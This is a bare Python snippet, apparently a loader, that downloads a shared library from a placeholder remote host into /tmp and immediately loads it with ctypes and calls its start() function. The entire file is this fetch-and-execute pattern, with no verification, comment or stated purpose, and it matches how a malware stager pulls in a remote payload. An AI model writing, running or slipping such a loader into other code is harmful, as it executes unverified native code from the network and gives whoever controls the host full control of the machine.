import ctypes
import urllib.request

urllib.request.urlretrieve("https://files.example.invalid/core.so", "/tmp/core.so")
ctypes.CDLL("/tmp/core.so").start()
